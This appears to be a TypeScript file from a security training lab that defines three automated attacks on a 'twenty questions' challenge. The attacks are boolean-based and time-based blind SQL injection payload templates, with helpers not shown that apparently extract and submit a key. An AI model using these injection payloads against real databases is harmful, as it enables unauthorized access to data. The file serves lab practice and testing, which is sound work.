import type { Attack } from '#lab'
import { byAnswer, byClock, findKeyAndSend } from './steps.ts'

const challenge = 'twentyQuestionsChallenge'

export const attacks: Attack[] = [
  {
    challenge,
    name: 'a question that is over before its quote is',
    run: async (tools) => {
      const ask = await byAnswer(tools, (condition) => `' OR ${condition}--`)
      await findKeyAndSend(tools, ask)
    },
  },
  {
    challenge,
    name: 'the time that the answer takes',
    run: async (tools) => {
      const ask = await byClock(tools, (nap) => `' OR ${nap} OR '1'='2`)
      await findKeyAndSend(tools, ask, { isSideBySide: true })
    },
  },
  {
    challenge,
    name: 'yes and no, in few signs and without a comment',
    run: async (tools) => {
      const ask = await byAnswer(tools, (condition) => `'OR ${condition} AND'1'='1`)
      await findKeyAndSend(tools, ask)
    },
  },
]
